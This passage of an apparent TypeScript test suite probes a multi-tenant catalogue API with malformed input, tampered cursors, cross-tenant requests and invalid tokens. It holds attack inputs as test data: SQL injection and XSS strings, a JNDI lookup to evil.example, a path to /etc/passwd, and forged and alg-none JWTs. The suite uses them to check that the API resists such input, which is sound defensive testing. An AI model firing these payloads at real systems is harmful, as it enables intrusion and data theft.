// Black-box HTTP: bad input of every kind gets a clear 4xx problem+json (never a 500, never a
// stack trace or SQL), and a refused write leaves nothing half-written behind.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import jwt from 'jsonwebtoken';
import { TOKEN_AUDIENCE, TOKEN_ISSUER } from '../src/modules/auth/tokens.js';
import {
  addMember,
  assertNoLeak,
  assertProblem,
  created,
  expectStatus,
  mintToken,
  refused,
  signClaims,
  signupTenant,
  startHttpApp,
  tenantCounts,
  type Member,
  type Tenant,
} from './support/http-assertions.js';
import type { ApiResponse, TestApp } from './support/server.js';

const uniq = () => randomUUID().slice(0, 8);
const cursorOf = (c: unknown) => Buffer.from(JSON.stringify(c)).toString('base64url');

describe('HTTP bad input', () => {
  let app: TestApp;
  let admin: Tenant;
  let editor: Member;
  let viewer: Member;
  let svc: Record<string, any>;

  const refusedWrite = (write: () => Promise<ApiResponse>, status: number, opts: { path?: string; detail?: RegExp } = {}, tables = ['services']) =>
    refused(app.db.knex, admin.tenantId, tables, write, status, opts);

  before(async () => {
    app = await startHttpApp();
    admin = await signupTenant(app);
    editor = await addMember(app, admin, 'editor');
    viewer = await addMember(app, admin, 'viewer');
    svc = await created(admin.client, '/api/v1/services', { name: `target-${uniq()}`, type: 'api' });
  });
  after(async () => {
    await app?.close();
  });

  describe('malformed and mistyped bodies', () => {
    for (const [name, raw] of [
      ['truncated JSON', '{"name": "x", "type": "api"'],
      ['a bare word', 'hello'],
      ['single quotes', "{'name': 'x'}"],
      ['a trailing comma', '{"name": "x",}'],
      ['JSON null (not an object)', 'null'],
      ['a JSON string (not an object)', '"just a string"'],
    ] as const) {
      it(`refuses ${name} with 400`, async () => {
        await refusedWrite(() => editor.client.request('POST', '/api/v1/services', { raw }), 400);
        await refusedWrite(() => editor.client.request('PATCH', `/api/v1/services/${svc.id}`, { raw }), 400);
      });
    }

    it('refuses an array body with 422', async () => {
      await refusedWrite(() => editor.client.request('POST', '/api/v1/services', { raw: '[{"name":"x","type":"api"}]' }), 422);
    });

    const wrongTypes: [string, Record<string, unknown>, string][] = [
      ['name as a number', { name: 123, type: 'api' }, 'name'],
      ['a missing required field', { name: 'no type' }, 'type'],
      ['an unknown enum value', { name: 'x', type: 'mainframe' }, 'type'],
      ['an empty name', { name: '   ', type: 'api' }, 'name'],
      ['a too-long name', { name: 'n'.repeat(300), type: 'api' }, 'name'],
      ['tags as a string', { name: 'x', type: 'api', tags: 'tier-1' }, 'tags'],
      ['a relation id that is not a UUID', { name: 'x', type: 'api', component_ids: ['not-a-uuid'] }, 'component_ids.0'],
      ['team_id as a number', { name: 'x', type: 'api', team_id: 42 }, 'team_id'],
      ['a nested attribute value', { name: 'x', type: 'api', attributes: { endpoint: { url: 'x' } } }, 'attributes.endpoint'],
      ['an assignment without a person', { name: 'x', type: 'api', assignments: [{ role: 'owner' }] }, 'assignments.0.person_id'],
    ];
    for (const [name, body, path] of wrongTypes) {
      it(`refuses ${name} with 422 at '${path}'`, async () => {
        await refusedWrite(() => editor.client.post('/api/v1/services', body), 422, { path });
      });
    }

    for (const field of ['tenant_id', 'id', 'row_version', 'created_by', 'deleted_at', 'bogus']) {
      it(`refuses the unknown or read-only field '${field}' with 422 naming it`, async () => {
        const value = field === 'row_version' ? 99 : field === 'bogus' ? true : randomUUID();
        await refusedWrite(() => editor.client.post('/api/v1/services', { name: `u-${uniq()}`, type: 'api', [field]: value }), 422, { path: field });
        await refusedWrite(() => editor.client.patch(`/api/v1/services/${svc.id}`, { [field]: value }), 422, { path: field });
      });
    }

    it('refuses attribute keys unknown for the type with 422 at attributes.<key>, on create and patch', async () => {
      await refusedWrite(
        () =>
          editor.client.post('/api/v1/services', {
            name: `attr-${uniq()}`,
            type: 'api',
            attributes: { endpoint: 'https://x', db_type: 'postgres' },
          }),
        422,
        { path: 'attributes.db_type' },
      );
      await refusedWrite(() => editor.client.patch(`/api/v1/services/${svc.id}`, { attributes: { flux_capacitor: true } }), 422, {
        path: 'attributes.flux_capacitor',
      });
      // Changing the type so the stored attributes no longer fit is refused too.
      const typed = await created(editor.client, '/api/v1/services', { name: `typed-${uniq()}`, type: 'api', attributes: { endpoint: 'https://x' } });
      await refusedWrite(() => editor.client.patch(`/api/v1/services/${typed.id}`, { type: 'cache' }), 422, { path: 'attributes.endpoint' });
      await refused(
        app.db.knex,
        admin.tenantId,
        ['components'],
        () =>
          editor.client.post('/api/v1/components', {
            name: `c-${uniq()}`,
            type: 'library',
            attributes: { runtime: 'node' },
          }),
        422,
        { path: 'attributes.runtime' },
      );
    });

    // Each attribute key has a value type by its meaning (URLs, counts, flags, lists of names).
    const wrongValues: [string, string, Record<string, unknown>][] = [
      ['services', 'api', { endpoint: 12345 }],
      ['services', 'api', { endpoint: 'ftp://files.example.com' }],
      ['services', 'api', { endpoint: 'not a url' }],
      ['services', 'api', { rate_limit: -5 }],
      ['services', 'message_queue', { retention_days: '7' }],
      ['services', 'message_queue', { retention_days: 1.5 }],
      ['services', 'message_queue', { topics: 'payments' }],
      ['services', 'message_queue', { dlq: 'yes' }],
      ['services', 'cache', { ttl: -1 }],
      ['services', 'web_application', { url: 'javascript:alert(1)' }],
      ['components', 'sdk', { documentation: 42 }],
      ['components', 'microservice', { containerized: 'true' }],
      ['resources', 'ec2', { url: 'www.example.com' }],
    ];
    for (const [kind, type, attributes] of wrongValues) {
      const [key] = Object.keys(attributes);
      it(`refuses ${JSON.stringify(attributes[key])} as ${kind}' ${key} with 422 at attributes.${key}, on create and patch`, async () => {
        await refused(app.db.knex, admin.tenantId, [kind], () => editor.client.post(`/api/v1/${kind}`, { name: `v-${uniq()}`, type, attributes }), 422, {
          path: `attributes.${key}`,
        });
        const record = await created(editor.client, `/api/v1/${kind}`, { name: `v-${uniq()}`, type });
        await refused(app.db.knex, admin.tenantId, [kind], () => editor.client.patch(`/api/v1/${kind}/${record.id}`, { attributes }), 422, {
          path: `attributes.${key}`,
        });
      });
    }

    it('stores attribute values of the right type, and null for no value', async () => {
      const queue = await created(editor.client, '/api/v1/services', {
        name: `queue-${uniq()}`,
        type: 'message_queue',
        attributes: { broker: 'Kafka', topics: ['a.b', 'c.d'], retention_days: 7, dlq: true },
      });
      assert.deepEqual(queue.attributes, { broker: 'Kafka', topics: ['a.b', 'c.d'], retention_days: 7, dlq: true });
      const api = await created(editor.client, '/api/v1/services', {
        name: `api-${uniq()}`,
        type: 'api',
        attributes: { endpoint: 'https://api.example.com/v1', rate_limit: '100/s', sla: '99.9%' },
      });
      assert.equal(api.attributes.endpoint, 'https://api.example.com/v1');
      const cleared = await editor.client.patch(`/api/v1/services/${api.id}`, { attributes: { endpoint: null, rate_limit: 600 } });
      expectStatus(cleared, 200);
      assert.deepEqual(cleared.body.data.attributes, { endpoint: null, rate_limit: 600 });
    });

    it('documents each attribute key with its value type in the OpenAPI document', async () => {
      const doc = (await app.client().get('/api/v1/openapi.json')).body;
      const schemas = doc.components?.schemas ?? {};
      const found = JSON.stringify(doc.paths['/api/v1/services'].post.requestBody.content['application/json'].schema);
      const ref = /#\/components\/schemas\/([^"]+)/.exec(found)?.[1];
      const create = ref ? schemas[ref] : JSON.parse(found);
      const attributes = create.properties.attributes;
      assert.match(attributes.description, /api: endpoint, protocol/);
      // The JSON types a property allows ({type: 'integer'}, {type: ['integer', 'null']} or anyOf).
      const typesOf = (schema: any): string[] => [...[schema.type ?? []].flat(), ...(schema.anyOf ?? []).flatMap(typesOf)];
      const property = (key: string) => attributes.properties[key];
      assert.equal(property('endpoint').format, 'uri');
      assert.deepEqual(typesOf(property('endpoint')).sort(), ['null', 'string']);
      assert.deepEqual(typesOf(property('retention_days')).sort(), ['integer', 'null']);
      assert.deepEqual(typesOf(property('dlq')).sort(), ['boolean', 'null']);
      assert.deepEqual(typesOf(property('topics')).sort(), ['array', 'null']);
      assert.deepEqual(typesOf(property('protocol')).sort(), ['null', 'string']);
    });

    it('refuses bodies over 256 kB with 413', async () => {
      const big = 'x'.repeat(300 * 1024);
      await refusedWrite(() => editor.client.post('/api/v1/services', { name: `big-${uniq()}`, type: 'api', description: big }), 413);
      await refusedWrite(() => editor.client.patch(`/api/v1/services/${svc.id}`, { description: big }), 413);
      await refusedWrite(
        () =>
          app.client().post('/api/v1/auth/signup', { tenant_name: big, tenant_slug: 'big', email: 'a@b.example', password: 'x'.repeat(20), display_name: 'x' }),
        413,
      );
    });

    it('refuses a body that is not JSON (415), whatever the content-type says', async () => {
      for (const [type, raw] of [
        ['text/plain', '{"name":"plain","type":"api"}'],
        ['application/x-www-form-urlencoded', 'name=form&type=api'],
        ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nmp\r\n--x--\r\n'],
        ['application/xml', '<service><name>xml</name></service>'],
      ]) {
        await refusedWrite(() => editor.client.request('POST', '/api/v1/services', { raw, headers: { 'content-type': type } }), 415);
      }
      // No content-type at all.
      await refusedWrite(async () => {
        const res = await fetch(`${app.url}/api/v1/services`, {
          method: 'POST',
          headers: { authorization: `Bearer ${editor.token}` },
          body: new TextEncoder().encode('{"name":"bare","type":"api"}'),
        });
        const text = await res.text();
        return { status: res.status, headers: res.headers, text, body: text ? JSON.parse(text) : undefined };
      }, 415);
    });
  });

  describe('paths, queries and cursors', () => {
    const badIds = ['not-a-uuid', '123', `${randomUUID()}x`, "1' OR '1'='1", '%00'];

    it('refuses a path id that is not a UUID with 400 on every route shape', async () => {
      const uuid = randomUUID();
      for (const bad of badIds) {
        const id = encodeURIComponent(bad);
        const probes: [string, string, unknown?][] = [
          ['GET', `/api/v1/services/${id}`],
          ['PATCH', `/api/v1/services/${id}`, { description: 'x' }],
          ['DELETE', `/api/v1/services/${id}`],
          ['POST', `/api/v1/services/${id}/restore`],
          ['GET', `/api/v1/services/${id}/impact`],
          ['GET', `/api/v1/services/${id}/permissions`],
          ['DELETE', `/api/v1/services/${svc.id}/permissions/${id}`],
          ['GET', `/api/v1/teams/${id}`],
          ['GET', `/api/v1/people/${id}`],
          ['GET', `/api/v1/repositories/${id}`],
          ['GET', `/api/v1/incidents/${id}`],
          ['POST', `/api/v1/incidents/${id}/updates`, { message: 'x' }],
          ['GET', `/api/v1/scorecards/${id}/results`],
          ['PATCH', `/api/v1/scorecards/${id}`, { name: 'x' }],
          ['GET', `/api/v1/dashboards/${id}`],
          ['POST', `/api/v1/dashboards/${id}/widgets`, { title: 'w', widget_type: 'list' }],
          ['PATCH', `/api/v1/dashboards/${uuid}/widgets/${id}`, { title: 'w' }],
          ['GET', `/api/v1/comments/${id}`],
          ['POST', `/api/v1/comments/${id}/resolve`],
          ['GET', `/api/v1/users/${id}`],
          ['PATCH', `/api/v1/users/${id}`, { display_name: 'x' }],
          ['DELETE', `/api/v1/api-keys/${id}`],
        ];
        for (const [method, url, body] of probes) {
          const res = await admin.client.request(method, url, body === undefined ? {} : { body });
          assertProblem(res, 400);
        }
      }
    });

    it('refuses a path parameter that is not valid percent-encoding with 400, never a 500', async () => {
      // Sent raw: `%zz` is no escape at all, `%ff%fe` and `%ED%A0%80` are no UTF-8.
      for (const bad of ['%zz', '%', '%ff%fe', '%ED%A0%80']) {
        for (const [method, url] of [
          ['GET', `/api/v1/services/${bad}`],
          ['DELETE', `/api/v1/users/${bad}`],
          ['POST', `/api/v1/services/${bad}/restore`],
          ['GET', `/api/v1/incidents/${bad}/permissions`],
          ['DELETE', `/api/v1/services/${svc.id}/permissions/${bad}`],
        ]) {
          await refusedWrite(() => admin.client.request(method, url), 400);
        }
      }
    });

    it('refuses bad cursors with 400 on every paginated list', async () => {
      for (const list of ['services', 'teams', 'incidents', 'scorecards', 'dashboards']) {
        for (const cursor of [
          'garbage!!',
          cursorOf({ s: 'name', k: 'x', id: randomUUID() }),
          cursorOf(['array']),
          cursorOf({ s: '-updated_at', k: 'x', id: 'not-a-uuid' }),
        ]) {
          assertProblem(await admin.client.get(`/api/v1/${list}?sort=-updated_at&cursor=${encodeURIComponent(cursor)}`), 400);
        }
      }
    });

    it('refuses a tampered cursor (the right sort, a key that is no timestamp) with 400', async () => {
      const forged = cursorOf({ s: '-updated_at', k: 'not a timestamp', id: randomUUID() });
      assertProblem(await admin.client.get(`/api/v1/services?cursor=${forged}`), 400);
    });

    it('refuses a tampered audit-log cursor (a time that is no timestamp) with 400', async () => {
      const forged = cursorOf({ t: 'not a timestamp', id: randomUUID() });
      assertProblem(await admin.client.get(`/api/v1/audit-logs?cursor=${forged}`), 400);
    });

    it('never answers 500 to a cursor key holding a NUL byte', async () => {
      const forged = cursorOf({ s: 'name', k: 'a\u0000b', id: randomUUID() });
      assertProblem(await admin.client.get(`/api/v1/services?sort=name&cursor=${forged}`), 400);
      assertProblem(await admin.client.get(`/api/v1/audit-logs?cursor=${cursorOf({ t: 'a\u0000b', id: randomUUID() })}`), 400);
    });

    it('never answers 500 to a search term holding a NUL byte', async () => {
      const res = await admin.client.get('/api/v1/services?q=a%00b');
      assert.notEqual(res.status, 500, res.text);
      if (res.status !== 200) assertProblem(res, res.status);
    });

    it('refuses repeated and unknown query parameters with 422', async () => {
      assertProblem(await admin.client.get('/api/v1/services?limit=10&limit=20'), 422, { path: 'query.limit' });
      assertProblem(await admin.client.get('/api/v1/services?status=active&status=planned'), 422, { path: 'query.status' });
      assertProblem(await admin.client.get('/api/v1/services?tenant_id=x'), 422, { path: 'query.tenant_id' });
      assertProblem(await admin.client.get('/api/v1/incidents?severity=apocalyptic'), 422, { path: 'query.severity' });
    });
  });

  describe('hostile strings', () => {
    const HOSTILE = [
      "'; DROP TABLE services; --",
      "Robert'); DROP TABLE students;--",
      '<script>alert(1)</script>',
      '"><img src=x onerror=alert(1)>',
      "' OR '1'='1",
      '${jndi:ldap://evil.example/a} {{7*7}} %s %n',
      '../../etc/passwd \\ \\\\ %_',
      'Ünïcødé ✓ 日本語 Ελληνικά עברית 🚀👩‍💻 \u202eevil\u202c',
      'line one\nline two\ttabbed\r\nwindows',
    ];

    it('stores them verbatim and returns them as JSON, exactly', async () => {
      for (const [i, s] of HOSTILE.entries()) {
        const res = await editor.client.post('/api/v1/services', {
          name: `${s} #${i}`,
          type: 'api',
          description: s,
          tags: [s.slice(0, 100)],
          attributes: { protocol: s },
        });
        expectStatus(res, 201, `create with ${JSON.stringify(s)}`);
        assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
        const got = await viewer.client.get(`/api/v1/services/${res.body.data.id}`);
        expectStatus(got, 200);
        assert.match(got.headers.get('content-type') ?? '', /^application\/json/);
        assert.equal(got.body.data.name, `${s.trim()} #${i}`);
        assert.equal(got.body.data.description, s);
        assert.deepEqual(got.body.data.tags, [s.slice(0, 100).trim()]);
        assert.equal(got.body.data.attributes.protocol, s);
        const row = await app.db.knex('services').where({ id: res.body.data.id }).first('description');
        assert.equal(row.description, s, 'stored byte for byte');
      }
      assert.ok(await app.db.knex.schema.hasTable('services'), 'the services table still exists');
      assert.ok((await app.db.knex.schema.hasTable('students')) === false);
    });

    it('searches for them literally with q', async () => {
      for (const s of ["'; DROP TABLE services; --", "' OR '1'='1", '<script>alert(1)</script>']) {
        const res = await viewer.client.get(`/api/v1/services?q=${encodeURIComponent(s)}`);
        expectStatus(res, 200, `q=${s}`);
        assert.ok(res.body.data.length >= 1, `finds the record holding ${s}`);
        assert.ok(
          res.body.data.every((r: { name: string; description: string | null }) => `${r.name} ${r.description ?? ''}`.includes(s)),
          `q=${s} matches only records containing it`,
        );
      }
      assert.ok(await app.db.knex.schema.hasTable('services'));
    });

    it('stores or refuses (4xx) a NUL byte in text and JSON fields, never a 500, nothing half-written', async () => {
      const failures: string[] = [];
      for (const body of [
        { name: `nul\u0000name-${uniq()}`, type: 'api' },
        { name: `nul-desc-${uniq()}`, type: 'api', description: 'before\u0000after' },
        { name: `nul-tag-${uniq()}`, type: 'api', tags: ['a\u0000b'] },
        { name: `nul-attr-${uniq()}`, type: 'api', attributes: { protocol: 'a\u0000b' } },
      ]) {
        const before = await tenantCounts(app.db.knex, admin.tenantId, ['services']);
        const res = await editor.client.post('/api/v1/services', body);
        if (res.status >= 500) {
          failures.push(`${JSON.stringify(body)} → ${res.status}`);
          continue;
        }
        if (res.status === 201) {
          const got = await viewer.client.get(`/api/v1/services/${res.body.data.id}`);
          for (const [k, v] of Object.entries(body)) assert.deepEqual(got.body.data[k], v, `${k} round-trips with its NUL`);
        } else {
          assertProblem(res, res.status);
          assert.ok(res.status >= 400 && res.status < 500);
          assert.deepEqual(await tenantCounts(app.db.knex, admin.tenantId, ['services']), before);
        }
      }
      assert.deepEqual(failures, [], 'NUL bytes answered with a 5xx');
    });
  });

  it('never answers 5xx to a NUL byte anywhere a string goes in, and writes nothing when it refuses', async () => {
    const nul = (s: string) => `${s}\u0000${uniq()}`;
    const inc = await created(admin.client, '/api/v1/incidents', { title: 'NUL target', severity: 'minor' });
    const dash = await created(admin.client, '/api/v1/dashboards', { name: `nul-dash-${uniq()}` });
    const probes: [string, () => Promise<ApiResponse>][] = [
      [
        'signup',
        () =>
          app.client().post('/api/v1/auth/signup', {
            tenant_name: nul('T'),
            tenant_slug: `nul-${uniq()}`,
            email: `a@${uniq()}.example`,
            password: 'long enough password',
            display_name: 'x',
          }),
      ],
      ['login slug', () => app.client().post('/api/v1/auth/login', { tenant_slug: nul('t'), email: 'a@b.example', password: 'whatever' })],
      ['login email', () => app.client().post('/api/v1/auth/login', { tenant_slug: admin.slug, email: nul('a@b.example'), password: 'whatever' })],
      ['team name', () => admin.client.post('/api/v1/teams', { name: nul('team') })],
      ['person email', () => admin.client.post('/api/v1/people', { name: 'x', email: `${uniq()}\u0000@example.com` })],
      ['incident title', () => admin.client.post('/api/v1/incidents', { title: nul('inc'), severity: 'minor' })],
      ['timeline message', () => admin.client.post(`/api/v1/incidents/${inc.id}/updates`, { message: nul('msg') })],
      ['scorecard name', () => admin.client.post('/api/v1/scorecards', { name: nul('card'), entity_types: ['services'] })],
      ['dashboard name', () => admin.client.post('/api/v1/dashboards', { name: nul('dash') })],
      ['widget config', () => admin.client.post(`/api/v1/dashboards/${dash.id}/widgets`, { title: 'w', widget_type: 'list', config: { q: nul('c') } })],
      ['comment body', () => admin.client.post('/api/v1/comments', { entity_type: 'services', entity_id: svc.id, body: nul('body') })],
      ['user name', () => admin.client.post('/api/v1/users', { email: `${uniq()}@example.com`, display_name: nul('user') })],
      ['api key name', () => admin.client.post('/api/v1/api-keys', { name: nul('key'), scope: 'read' })],
      ['audit filter', () => admin.client.get('/api/v1/audit-logs?entity_type=a%00b')],
    ];
    const tables = ['teams', 'people', 'incidents', 'incident_timeline_entries', 'scorecards', 'dashboards', 'widgets', 'comments', 'users', 'api_keys'];
    const failures: string[] = [];
    for (const [name, probe] of probes) {
      const before = await tenantCounts(app.db.knex, admin.tenantId, tables);
      const res = await probe();
      if (res.status >= 500) {
        failures.push(`${name} → ${res.status}`);
        continue;
      }
      assertNoLeak(res.text);
      if (res.status >= 400) {
        assertProblem(res, res.status);
        assert.deepEqual(await tenantCounts(app.db.knex, admin.tenantId, tables), before, `${name}: nothing half-written`);
      }
    }
    assert.deepEqual(failures, [], 'NUL bytes answered with a 5xx');
  });

  describe("another tenant's records", () => {
    let other: Tenant;
    let foreign: Record<string, Record<string, any>>;

    before(async () => {
      other = await signupTenant(app);
      const c = other.client;
      const service = await created(c, '/api/v1/services', { name: `f-svc-${uniq()}`, type: 'api' });
      const dashboard = await created(c, '/api/v1/dashboards', { name: `f-dash-${uniq()}`, widgets: [{ title: 'w', widget_type: 'list' }] });
      const deleted = await created(c, '/api/v1/services', { name: `f-deleted-${uniq()}`, type: 'api' });
      expectStatus(await c.delete(`/api/v1/services/${deleted.id}`), 204);
      const grantee = await addMember(app, other, 'viewer');
      const grant = await c.post(`/api/v1/services/${service.id}/permissions`, { user_id: grantee.id, level: 'VIEW' });
      expectStatus(grant, 201);
      foreign = {
        teams: await created(c, '/api/v1/teams', { name: `f-team-${uniq()}` }),
        people: await created(c, '/api/v1/people', { name: 'F', email: `f-${uniq()}@example.com` }),
        products: await created(c, '/api/v1/products', { name: `f-prod-${uniq()}` }),
        services: service,
        components: await created(c, '/api/v1/components', { name: `f-comp-${uniq()}`, type: 'sdk' }),
        resources: await created(c, '/api/v1/resources', { name: `f-res-${uniq()}`, type: 'cdn' }),
        repositories: await created(c, '/api/v1/repositories', { name: `f-repo-${uniq()}`, provider: 'github' }),
        incidents: await created(c, '/api/v1/incidents', { title: 'Foreign incident', severity: 'minor' }),
        scorecards: await created(c, '/api/v1/scorecards', { name: `f-card-${uniq()}`, entity_types: ['services'] }),
        dashboards: dashboard,
        comments: await created(c, '/api/v1/comments', { entity_type: 'services', entity_id: service.id, body: 'foreign comment' }),
        users: { id: other.userId },
        'api-keys': await created(c, '/api/v1/api-keys', { name: 'foreign key', scope: 'read' }),
        deleted,
        grant: grant.body.data,
      };
    });

    /** Both tenants' rows and logs are untouched by a refused cross-tenant request. */
    const bothUntouched = async (write: () => Promise<ApiResponse>, status: number) => {
      const tables = [
        'services',
        'teams',
        'people',
        'products',
        'components',
        'resources',
        'repositories',
        'incidents',
        'incident_timeline_entries',
        'scorecards',
        'dashboards',
        'widgets',
        'comments',
        'users',
        'api_keys',
        'entity_permissions',
      ];
      const mineBefore = await tenantCounts(app.db.knex, admin.tenantId, tables);
      const theirsBefore = await tenantCounts(app.db.knex, other.tenantId, tables);
      const versionsBefore = await app.db.knex('services').where('tenant_id', other.tenantId).orderBy('id').select('id', 'row_version', 'deleted_at');
      const res = await write();
      assertProblem(res, status);
      assert.deepEqual(await tenantCounts(app.db.knex, admin.tenantId, tables), mineBefore, 'own tenant untouched');
      assert.deepEqual(await tenantCounts(app.db.knex, other.tenantId, tables), theirsBefore, 'other tenant untouched');
      assert.deepEqual(
        await app.db.knex('services').where('tenant_id', other.tenantId).orderBy('id').select('id', 'row_version', 'deleted_at'),
        versionsBefore,
        'no foreign row changed',
      );
      return res;
    };

    const PATCHES: Record<string, unknown> = {
      teams: { description: 'x' },
      people: { role_title: 'x' },
      products: { description: 'x' },
      services: { description: 'x' },
      components: { description: 'x' },
      resources: { description: 'x' },
      repositories: { description: 'x' },
      incidents: { title: 'x' },
      scorecards: { name: 'x' },
      dashboards: { name: 'x' },
      comments: { body: 'x' },
      users: { display_name: 'x' },
    };

    for (const collection of [
      'teams',
      'people',
      'products',
      'services',
      'components',
      'resources',
      'repositories',
      'incidents',
      'scorecards',
      'dashboards',
      'comments',
      'users',
    ]) {
      it(`/${collection}: GET, PATCH and DELETE of a foreign id are 404, and it is never listed`, async () => {
        const id = foreign[collection].id;
        await bothUntouched(() => admin.client.get(`/api/v1/${collection}/${id}`), 404);
        await bothUntouched(() => admin.client.patch(`/api/v1/${collection}/${id}`, PATCHES[collection]), 404);
        await bothUntouched(() => admin.client.delete(`/api/v1/${collection}/${id}`), 404);
        if (collection !== 'comments') {
          const list = await admin.client.get(`/api/v1/${collection}${collection === 'users' ? '' : '?limit=200&include_deleted=true'}`);
          expectStatus(list, 200);
          assert.ok(!list.text.includes(id), 'not in the list');
        }
      });
    }

    it('restore of a foreign (deleted) record is 404', async () => {
      await bothUntouched(() => admin.client.post(`/api/v1/services/${foreign.deleted.id}/restore`), 404);
      for (const collection of ['teams', 'incidents', 'scorecards', 'dashboards']) {
        await bothUntouched(() => admin.client.post(`/api/v1/${collection}/${foreign[collection].id}/restore`), 404);
      }
    });

    it('sub-routes of a foreign record are 404', async () => {
      const s = foreign.services.id;
      const d = foreign.dashboards;
      const probes: [string, () => Promise<ApiResponse>][] = [
        ['impact', () => admin.client.get(`/api/v1/services/${s}/impact`)],
        ['grants list', () => admin.client.get(`/api/v1/services/${s}/permissions`)],
        ['grant revoke', () => admin.client.delete(`/api/v1/services/${s}/permissions/${foreign.grant.id}`)],
        ['timeline update', () => admin.client.post(`/api/v1/incidents/${foreign.incidents.id}/updates`, { status: 'resolved', message: 'x' })],
        ['scorecard results', () => admin.client.get(`/api/v1/scorecards/${foreign.scorecards.id}/results`)],
        ['add widget', () => admin.client.post(`/api/v1/dashboards/${d.id}/widgets`, { title: 'w', widget_type: 'list' })],
        ['patch widget', () => admin.client.patch(`/api/v1/dashboards/${d.id}/widgets/${d.widgets[0].id}`, { title: 'mine' })],
        ['delete widget', () => admin.client.delete(`/api/v1/dashboards/${d.id}/widgets/${d.widgets[0].id}`)],
        ['resolve comment', () => admin.client.post(`/api/v1/comments/${foreign.comments.id}/resolve`)],
        ['unresolve comment', () => admin.client.post(`/api/v1/comments/${foreign.comments.id}/unresolve`)],
        ['list comments', () => admin.client.get(`/api/v1/comments?entity_type=services&entity_id=${s}`)],
        ['revoke api key', () => admin.client.delete(`/api/v1/api-keys/${foreign['api-keys'].id}`)],
      ];
      for (const [name, probe] of probes) {
        const res = await bothUntouched(probe, 404).catch((err: Error) => {
          throw new Error(`${name}: ${err.message}`);
        });
        assert.ok(res);
      }
    });

    it('commenting on a foreign record is 422 (the body names it), and writes nothing', async () => {
      const s = foreign.services.id;
      await bothUntouched(() => admin.client.post('/api/v1/comments', { entity_type: 'services', entity_id: s, body: 'x' }), 422);
    });

    it('granting on a foreign record is 404 (the path names it), not 422', async () => {
      await bothUntouched(() => admin.client.post(`/api/v1/services/${foreign.services.id}/permissions`, { user_id: admin.userId, level: 'EDIT' }), 404);
      await bothUntouched(() => admin.client.post(`/api/v1/dashboards/${foreign.dashboards.id}/permissions`, { user_id: null, level: 'VIEW' }), 404);
    });

    it("a foreign admin's token and API key still only see their own tenant", async () => {
      const key = foreign['api-keys'].key as string;
      const res = await app.client(key).get(`/api/v1/services/${svc.id}`);
      assertProblem(res, 404);
    });
  });

  describe('authentication and authorization', () => {
    const url = '/api/v1/services';

    it('refuses a missing, garbage, malformed, expired, forged or orphaned token with 401', async () => {
      // Complete but for the one thing wrong with each (exp in the past, another secret).
      const now = Math.floor(Date.now() / 1000);
      const expired = signClaims({ sub: admin.userId, tid: admin.tenantId, ver: 0, iat: now - 120, exp: now - 60 });
      const forged = jwt.sign({ sub: admin.userId, tid: admin.tenantId, ver: 0 }, 'some-other-secret-that-is-also-long-enough', {
        algorithm: 'HS256',
        expiresIn: 3600,
        issuer: TOKEN_ISSUER,
        audience: TOKEN_AUDIENCE,
      });
      const none = `${Buffer.from('{"alg":"none","typ":"JWT"}').toString('base64url')}.${Buffer.from(JSON.stringify({ sub: admin.userId, tid: admin.tenantId })).toString('base64url')}.`;
      const ghost = mintToken(admin.tenantId, randomUUID());
      const wrongTenant = mintToken(randomUUID(), admin.userId);
      const headers: [string, Record<string, string>][] = [
        ['no header', {}],
        ['garbage token', { authorization: 'Bearer garbage' }],
        ['empty bearer', { authorization: 'Bearer ' }],
        ['basic auth', { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` }],
        ['two tokens', { authorization: `Bearer ${admin.token} ${admin.token}` }],
        ['expired', { authorization: `Bearer ${expired}` }],
        ['forged secret', { authorization: `Bearer ${forged}` }],
        ['alg none', { authorization: `Bearer ${none}` }],
        ['unknown user', { authorization: `Bearer ${ghost}` }],
        ['unknown tenant', { authorization: `Bearer ${wrongTenant}` }],
        ['unknown api key', { authorization: 'Bearer ail_thisisnotarealkeyatallbutlookslikeone000' }],
        ['sql in token', { authorization: "Bearer ' OR 1=1 --" }],
      ];
      for (const [name, h] of headers) {
        const get = await app.client().get(url, h);
        assert.equal(get.status, 401, `${name}: ${get.status} ${get.text}`);
        assertProblem(get, 401);
        await refusedWrite(() => app.client().post(url, { name: `anon-${uniq()}`, type: 'api' }, h), 401);
      }
    });

    it('stops accepting a token at its expiry, also when this node accepted it a moment before', async () => {
      // The principal cache keeps a principal for seconds; an entry must never outlive its token.
      const exp = Math.floor(Date.now() / 1000) + 2;
      const shortLived = signClaims({ sub: admin.userId, tid: admin.tenantId, ver: 0, iat: exp - 2, exp });
      expectStatus(await app.client(shortLived).get(url), 200);
      await new Promise((resolve) => setTimeout(resolve, Math.max(0, exp * 1000 - Date.now()) + 50));
      assertProblem(await app.client(shortLived).get(url), 401);
      await refusedWrite(() => app.client(shortLived).post(url, { name: `late-${uniq()}`, type: 'api' }), 401);
    });

    it('refuses a revoked API key with 401 on reads and writes', async () => {
      const k = await created(admin.client, '/api/v1/api-keys', { name: `revoked-${uniq()}`, scope: 'read_write' });
      expectStatus(await app.client(k.key).get(url), 200);
      expectStatus(await admin.client.delete(`/api/v1/api-keys/${k.id}`), 204);
      assertProblem(await app.client(k.key).get(url), 401);
      await refusedWrite(() => app.client(k.key).post(url, { name: `revoked-${uniq()}`, type: 'api' }), 401);
      await refusedWrite(() => app.client(k.key).delete(`${url}/${svc.id}`), 401);
    });

    it('refuses a viewer writing with 403, nothing written', async () => {
      await refusedWrite(() => viewer.client.post(url, { name: `v-${uniq()}`, type: 'api' }), 403);
      await refusedWrite(() => viewer.client.patch(`${url}/${svc.id}`, { description: 'viewer' }), 403);
      await refusedWrite(() => viewer.client.delete(`${url}/${svc.id}`), 403);
      await refusedWrite(() => viewer.client.post(`${url}/${svc.id}/restore`), 403);
      await refused(app.db.knex, admin.tenantId, ['incidents'], () => viewer.client.post('/api/v1/incidents', { title: 'x', severity: 'minor' }), 403);
      await refused(app.db.knex, admin.tenantId, ['users'], () => viewer.client.post('/api/v1/users', { email: 'v@example.com', display_name: 'v' }), 403);
    });

    it('checks the token before looking at the body: an anonymous malformed write is 401 or 400, never a 500', async () => {
      const res = await app.client().request('POST', url, { raw: '{broken' });
      assert.ok([400, 401].includes(res.status), `${res.status}`);
      assertProblem(res, res.status);
    });
  });

  it('answers an unknown route with a 404 problem, and never leaks internals in any error so far', async () => {
    const res = await admin.client.get('/api/v1/no-such-collection');
    assertProblem(res, 404);
    assertNoLeak(res.text);
